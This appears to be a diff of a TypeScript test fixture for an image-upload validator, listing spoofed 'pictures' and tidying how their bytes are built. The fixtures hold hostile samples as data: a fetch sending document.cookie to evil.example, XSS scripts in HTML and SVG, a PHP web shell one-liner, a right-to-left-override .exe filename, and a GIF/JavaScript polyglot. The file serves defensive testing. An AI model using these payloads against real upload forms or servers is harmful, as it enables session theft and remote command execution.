@@ -22,7 +22,7 @@ export const honestPictures: Picture[] = [
 const html = '<!doctype html><script>alert(document.domain)</script>'
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 const php = '<?php system($_GET["c"]); ?>'
-/** Files that are no honest picture; tests/send-offert/pictures.test.ts has more kinds, this is the way of each kind through the whole. */
+/** Files that are no honest picture, each kind once: tests/send-offert/pictures.test.ts has more of each. */
 export const spoofs: Picture[] = (
   [
     ['JavaScript', 'bild.jpg', 'fetch("https://evil.example/"+document.cookie)'],
@@ -30,13 +30,13 @@ export const spoofs: Picture[] = (
     ['SVG', 'logga.svg', svg],
     ['SVG after an XML declaration', 'logga.png', `<?xml version="1.0"?>${svg}`],
     ['PHP', 'skal.php.jpg', php],
-    ['Windows program with a reversed name', 'bild\u202egpj.exe', joined('MZ\x90\0\x03', Buffer.alloc(200))],
-    ['Linux program', 'bild.webp', joined('\x7fELF\x02\x01\x01', Buffer.alloc(200))],
+    ['Windows program with a reversed name', 'bild\u202egpj.exe', 'MZ\x90\0\x03'.padEnd(200)],
+    ['Linux program', 'bild.webp', '\x7fELF\x02\x01\x01'.padEnd(200)],
     ['PDF', 'bild.jpg', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF'],
     ['GIF that is JavaScript', 'bild.jpg', 'GIF89a/*\0\0\0*/=1;alert(1)//;'],
-    ['HEIC', 'IMG_1.jpg', joined('\0\0\0\x18ftypheic\0\0\0\0mif1heic', Buffer.alloc(64))],
+    ['HEIC', 'IMG_1.jpg', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'.padEnd(64)],
     ['AVIF', 'bild.webp', avif],
-    ['WAV', 'bild.webp', joined('RIFF\x24\0\0\0WAVEfmt ', Buffer.alloc(32))],
+    ['WAV', 'bild.webp', 'RIFF\x24\0\0\0WAVEfmt '.padEnd(64)],
     ['an empty file', 'bild.jpg', ''],
     ['one byte', 'bild.jpg', '\xff'],
     ['the first bytes of a JPEG before HTML', 'bild.jpg', `\xff\xd8\xff\xe0${html}`],
@@ -44,14 +44,10 @@ export const spoofs: Picture[] = (
     ['half a JPEG', 'bild.jpg', jpeg.subarray(0, jpeg.length / 2)],
     ['a WebP with a wrong length', 'bild.webp', joined(webp, Buffer.alloc(100))],
     ['5 MB and one byte of JPEG', 'bild.jpg', joined(jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length))],
-    [
-      'JPEG with PDF and a script in its comment',
-      'bild.jpg',
-      joined(jpeg.subarray(0, 2), '\xff\xfe\0\x1c%PDF-1.7 <script></script>', jpeg.subarray(2)),
-    ],
+    ['JPEG with a PDF in its comment', 'bild.jpg', joined(jpeg.subarray(0, 2), '\xff\xfe\0\x0b%PDF-1.7 ', jpeg.subarray(2))],
     ['JPEG with HTML after its end', 'bild.jpg', joined(jpeg, html)],
     ['PNG with HTML after its end', 'bild.png', joined(png, html)],
-  ] as [name: string, file: string, bytes: Buffer | string][]
+  ] as const
 ).map(([name, file, bytes]) => {
   const extension = file.split('.').at(-1)!.replace('jpg', 'jpeg').replace('svg', 'svg+xml')
   return { name: `${name} as ${file}`, file, type: `image/${extension}`, bytes: joined(bytes) }
